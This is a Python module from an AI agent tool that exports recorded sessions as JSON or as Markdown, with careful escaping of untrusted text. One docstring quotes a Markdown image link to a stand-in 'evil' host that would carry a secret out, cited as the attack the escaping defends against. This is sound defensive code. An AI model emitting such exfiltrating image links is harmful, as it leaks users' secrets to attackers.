"""A session as a readable Markdown document or as JSON: every event, in order, nothing left out.

Everything in a session was written by someone else (the person, the model, tools, skills),
so the Markdown keeps it from breaking the document: prose is quoted line by line, code and
tool output go in fences longer than any backtick run inside them, short values in code
spans, and control characters are shown as visible escapes.
"""

from __future__ import annotations

import json
import re
from typing import Any

from agent.depth import too_deep
from agent.messages import Part, TextPart
from agent.session.events import (
    ApprovalEvent,
    AssistantEvent,
    CompactionEvent,
    FileChangeEvent,
    ModelChangeEvent,
    PlanModeEvent,
    Recorded,
    SkillActivationEvent,
    SubagentEndEvent,
    SubagentEvent,
    SubagentStartEvent,
    TodosEvent,
    ToolResultEvent,
    ToolsFoundEvent,
    UndoEvent,
    UnknownEvent,
    UsageEvent,
    UserEvent,
    event_from_json,
)
from agent.session.store import LoadedSession
from agent.text import escape_json_text, sanitize, sanitize_line

# Characters that could start Markdown syntax inside a line of ordinary text.
_INLINE_SPECIAL = re.compile(r"([\\`*_\[\]<>&|~#!])")
_SURROGATE = re.compile(r"[\ud800-\udfff]")
# In prose, what a Markdown viewer fetches by itself when the document is opened: an image
# (`![`, inline or by reference) and raw HTML (`<img`, `<iframe`...; an autolink `<https:` too,
# which would otherwise win over a code span). Escaped, they show as the text they are.
_FETCHING = re.compile(r"!\[|<(?=[A-Za-z/!?])")
# A fence's opening line (CommonMark: up to 3 spaces; a backtick fence's info has no backtick).
_FENCE = re.compile(r" {0,3}(?P<run>`{3,}(?=[^`]*$)|~{3,})")


def export_json(loaded: LoadedSession) -> str:
    """{"header": ..., "events": [...]}, pretty-printed; every string as saved."""
    document = {"header": loaded.header.to_json(), "events": loaded.events}
    text = json.dumps(document, ensure_ascii=False, indent=2)
    # json.dumps(ensure_ascii=False) escapes only C0 controls: DEL, C1 controls, bidi and
    # invisible characters and lone surrogates (which cannot be written as UTF-8) become \u
    # escapes too. Still valid JSON with the same strings, and safe to print on a terminal.
    return escape_json_text(text) + "\n"


def export_markdown(loaded: LoadedSession, skipped: list[str] | None = None) -> str:
    """The whole session as Markdown: header facts, then every event, then usage totals.

    An event that cannot be rendered (fields of the wrong type) is skipped with a line
    saying so in the document, and a note appended to `skipped`, as resume does.
    """
    header = loaded.header
    title = session_title(loaded)
    blocks = [
        f"# {_inline(title) if title else 'Session ' + _code(header.id)}",
        "\n".join(
            [
                f"- Session: {_code(header.id)}",
                f"- Started: {_code(header.started_at)}",
                f"- Project: {_code(header.project)}",
                f"- Model: {_code(header.model)}",
                f"- App version: {_code(header.app_version)}",
            ]
        ),
    ]
    renderer = _Renderer()
    numbers = loaded.lines if len(loaded.lines) == len(loaded.events) else []
    for index, event in enumerate(loaded.events):
        try:
            blocks.extend(renderer.render(event))
        except (ValueError, RecursionError):
            where = f"line {numbers[index]}: " if numbers else ""
            kind = event.get("type")
            if skipped is not None:
                skipped.append(f"{where}an unreadable {kind!r} event was skipped")
            blocks.append(f"*({where}an unreadable {_code(str(kind))} event was skipped)*")
    blocks.append(renderer.usage_totals())
    return "\n\n".join(blocks) + "\n"


def session_title(loaded: LoadedSession) -> str:
    """The first line of the first user message ("" when there is none)."""
    for data in loaded.events:
        try:
            event = event_from_json(data)
        except ValueError:
            continue
        if isinstance(event, UserEvent):
            text = event.content.strip()
            return text.splitlines()[0] if text else ""
    return ""


class _Renderer:
    """Turns events into Markdown blocks, remembering tool names and usage as it goes."""

    def __init__(self) -> None:
        self.tool_names: dict[str, str] = {}
        self.requests = 0
        self.prompt_tokens = 0
        self.completion_tokens = 0
        self.cost: float | None = None
        self.subagents: dict[int, str] = {}  # labels by number, from their start events

    def render(self, data: dict[str, Any]) -> list[str]:
        """The blocks for one saved event; ValueError when it is malformed."""
        return self._blocks(Recorded.from_json(data))

    def _subagent(self, recorded: Recorded) -> list[str]:
        """A subagent's start, end, or one of its own events under its label (its usage is
        in the session's already: each of its requests was counted there too)."""
        event = recorded.event
        if isinstance(event, SubagentStartEvent):
            self.subagents[event.agent] = event.label
            about = f"kind {_code(event.agent_kind)}, model {_code(event.model)}"
            return [
                f"## Subagent {_inline(event.label)} started ({about})",
                _quote(_inert(event.task)),
            ]
        assert isinstance(event, SubagentEndEvent | SubagentEvent)
        label = _inline(self.subagents.get(event.agent, f"#{event.agent}"))
        if isinstance(event, SubagentEndEvent):
            head = f"**Subagent {label} {_inline(event.status)}**; its answer:"
            return [head, _quote(_inert(event.answer or "(none)"))]
        if isinstance(event.event, UsageEvent):
            return []
        blocks = self._blocks(Recorded(event.event, recorded.at))
        return [b.replace("## ", f"## {label} · ", 1) if b.startswith("## ") else b for b in blocks]

    def _blocks(self, recorded: Recorded) -> list[str]:
        event = recorded.event
        if isinstance(event, SubagentStartEvent | SubagentEndEvent | SubagentEvent):
            return self._subagent(recorded)
        if isinstance(event, UserEvent):
            return [
                _heading(recorded, "User"),
                _quote(_inert(_text(event.content))),
                *_parts(event.parts),
            ]
        if isinstance(event, AssistantEvent):
            return self._assistant(recorded, event)
        if isinstance(event, ToolResultEvent):
            name = self.tool_names.get(event.tool_call_id)
            about = f"{_code(name)} " if name else ""
            return [
                _heading(recorded, "Tool result"),
                f"For {about}(call {_code(event.tool_call_id)}):",
                _fence(_text(event.content), "text"),
                *_parts(event.parts),
            ]
        if isinstance(event, ApprovalEvent):
            return [_approval(event)]
        if isinstance(event, UsageEvent):
            self._add_usage(event)
            return []
        if isinstance(event, SkillActivationEvent):
            return _skill(event)
        if isinstance(event, CompactionEvent):
            return _compaction(event)
        if isinstance(event, ModelChangeEvent):
            return [f"**Model changed** from {_code(str(event.previous))} to {_code(event.to)}."]
        if isinstance(event, ToolsFoundEvent):
            found = ", ".join(_code(name) for name in event.names)
            return [f"**Tools found by search** (offered from then on): {found}."]
        if isinstance(event, FileChangeEvent):
            what = f"**File {_inline(event.action)}** by {_code(event.tool)}"
            return [f"{what}: {_code(event.path)} (change {event.number})."]
        if isinstance(event, UndoEvent):
            return [f"**Undone** (/undo): change {event.number}, {_code(event.path)}."]
        if isinstance(event, TodosEvent):
            return [_todos(event)]
        if isinstance(event, PlanModeEvent):
            return [_plan_mode(event)]
        assert isinstance(event, UnknownEvent)
        # An event this version does not know: shown as saved rather than dropped.
        return [
            f"**Event {_code(str(event.kind))}**",
            _fence(json.dumps(event.fields, ensure_ascii=False, indent=2), "json"),
        ]

    def _assistant(self, recorded: Recorded, event: AssistantEvent) -> list[str]:
        blocks = [_heading(recorded, "Assistant")]
        content = _text(event.content)
        if content.strip():
            blocks.append(_quote(_inert(content)))
        for call in event.tool_calls:
            self.tool_names[call.id] = call.name
            blocks.append(
                f"**Tool call** {_code(call.name)} (call {_code(call.id)}) with arguments:"
            )
            blocks.append(_arguments(call.arguments))
        if len(blocks) == 1:
            blocks.append("*(no text)*")
        return blocks

    def _add_usage(self, event: UsageEvent) -> None:
        self.requests += 1
        self.prompt_tokens += event.usage.prompt_tokens
        self.completion_tokens += event.usage.completion_tokens
        if event.usage.cost_usd is not None:
            self.cost = (self.cost or 0.0) + event.usage.cost_usd

    def usage_totals(self) -> str:
        cost = f"${self.cost:.4f}" if self.cost is not None else "unknown"
        return "\n".join(
            [
                "## Usage",
                "",
                f"- Model requests: {self.requests}",
                f"- Prompt tokens: {self.prompt_tokens}",
                f"- Completion tokens: {self.completion_tokens}",
                f"- Cost (USD): {cost}",
            ]
        )


def _heading(recorded: Recorded, role: str) -> str:
    prefix = f"{recorded.n} · " if recorded.n is not None else ""
    return f"## {prefix}{role}"


def _approval(event: ApprovalEvent) -> str:
    tool, call = _code(event.tool), _code(event.tool_call_id)
    if event.approved:
        line = f"**Approved** by the person: {tool} (call {call})."
    else:
        line = f"**Declined** by the person: {tool} (call {call})."
    if event.reason:
        line += f" Reason: {_inline(event.reason)}"
    return line


def _skill(event: SkillActivationEvent) -> list[str]:
    snapshot = event.snapshot
    return [
        f"## Skill activated: {_inline(snapshot.name)}",
        "\n".join(
            [
                f"- Scope: {_code(snapshot.scope)}",
                f"- Path: {_code(snapshot.path)}",
                f"- Body sha256: {_code(snapshot.body_sha256)}",
            ]
        ),
        _fence(_text(snapshot.body), "markdown"),
    ]


_TODO_BOXES = {"done": "- [x] ", "in_progress": "- [ ] **in progress:** ", "pending": "- [ ] "}


def _todos(event: TodosEvent) -> str:
    """One update of the model's task list, as a checklist (its steps are model text)."""
    if not event.items:
        return "**Task list** (update_todos): cleared."
    steps = "\n".join(_TODO_BOXES[item.status] + _inline(item.text) for item in event.items)
    return f"**Task list** (update_todos):\n\n{steps}"


def _compaction(event: CompactionEvent) -> list[str]:
    through = event.through
    scope = f"messages 1 to {through}" if through is not None else "earlier messages"
    return [
        "## Compaction: session memory",
        f"{scope[0].upper()}{scope[1:]} (still shown above) were summarised into this "
        "session memory; from here on the model saw this summary instead of them.",
        _quote(_inert(_text(event.summary))),
    ]


def _text(value: object) -> str:
    """Untrusted text with control characters escaped (newlines and tabs kept)."""
    return _SURROGATE.sub("\ufffd", sanitize("" if value is None else str(value)))


def _line(text: str) -> str:
    """Untrusted text as one line: newlines and control characters escaped."""
    return _SURROGATE.sub("\ufffd", sanitize_line(text))


def _inline(text: str) -> str:
    """One line of untrusted text, safe inside a Markdown paragraph or heading."""
    return _INLINE_SPECIAL.sub(r"\\\1", _line(text))


def _code(text: str) -> str:
    """A code span that no backtick run inside `text` can close early."""
    text = _line(text)
    ticks = "`" * (_longest_run(text, "`") + 1)
    pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
    return f"{ticks}{pad}{text}{pad}{ticks}"


def _parts(parts: tuple[Part, ...]) -> list[str]:
    """What was attached to a message: texts fenced, images described (their bytes stay in
    the session's image folder)."""
    blocks = []
    for part in parts:
        if isinstance(part, TextPart):
            blocks += ["**Attached:**", _fence(_text(part.text), "text")]
        else:
            blocks.append(f"**Attached image:** {_line(part.mime_type)}, {part.size} bytes")
    return blocks


def _fence(text: str, info: str) -> str:
    """A fenced block longer than any backtick run inside, so the text cannot close it."""
    ticks = "`" * max(3, _longest_run(text, "`") + 1)
    body = text if text.endswith("\n") or not text else text + "\n"
    return f"{ticks}{info}\n{body}{ticks}"


def _inert(text: str) -> str:
    """Prose (the person's, the model's) that still reads as Markdown but fetches nothing when
    the export is viewed: a hostile answer's `![](https://evil/?d=SECRET)` or `<img src=...>`
    would send what it names to the attacker the moment the file is opened. Code (fenced
    blocks, code spans) is left as it is: nothing in it is rendered."""
    lines = text.split("\n")
    fence: tuple[str, int] | None = None  # the open fence's character and length
    for index, line in enumerate(lines):
        if fence is not None:
            char, length = fence
            if re.fullmatch(f" {{0,3}}{re.escape(char)}{{{length},}} *", line):
                fence = None
            continue
        opening = _FENCE.match(line)
        if opening is not None:
            fence = (opening["run"][0], len(opening["run"]))
            continue
        lines[index] = _inert_line(line)
    return "\n".join(lines)


def _inert_line(line: str) -> str:
    """One line outside fences: escaped but for its code spans (a backtick run closed by one of
    the same length; a backslash before a backtick makes it text, as CommonMark reads it)."""
    out: list[str] = []
    position = 0
    for run in re.finditer(r"`+", line):
        if run.start() < position or _backslashed(line, run.start()):
            continue
        closing = re.compile(f"(?<!`){run.group()}(?!`)").search(line, run.end())
        if closing is None:
            continue
        out.append(_FETCHING.sub(lambda m: "\\" + m.group(), line[position : run.start()]))
        out.append(line[run.start() : closing.end()])
        position = closing.end()
    out.append(_FETCHING.sub(lambda m: "\\" + m.group(), line[position:]))
    return "".join(out)


def _backslashed(line: str, index: int) -> bool:
    count = len(line[:index]) - len(line[:index].rstrip("\\"))
    return count % 2 == 1


def _quote(text: str) -> str:
    """Prose as a block quote: whatever Markdown it holds stays inside the quote."""
    if not text.strip():
        return "> *(empty)*"
    return "\n".join(f"> {line}" if line else ">" for line in text.split("\n"))


def _arguments(raw: str) -> str:
    """Tool call arguments as pretty JSON, or as sent when they are not valid JSON."""
    try:
        value = json.loads(raw)
    except (json.JSONDecodeError, RecursionError):
        return "(not valid JSON, shown as sent)\n" + _fence(_text(raw), "text")
    if too_deep(value):  # the pretty printer recurses once per level
        return "(nested too deeply, shown as sent)\n" + _fence(_text(raw), "text")
    return _fence(_text(json.dumps(value, ensure_ascii=False, indent=2)), "json")


def _longest_run(text: str, char: str) -> int:
    runs = re.findall(f"{re.escape(char)}+", text)
    return max((len(run) for run in runs), default=0)


def _plan_mode(event: PlanModeEvent) -> str:
    if not event.on:
        return "**Plan mode off**: the tools that change files and run programs are offered again."
    mcp = " with MCP tools (each call asked)" if event.mcp else ""
    return f"**Plan mode on**{mcp}: only tools that change nothing are offered."
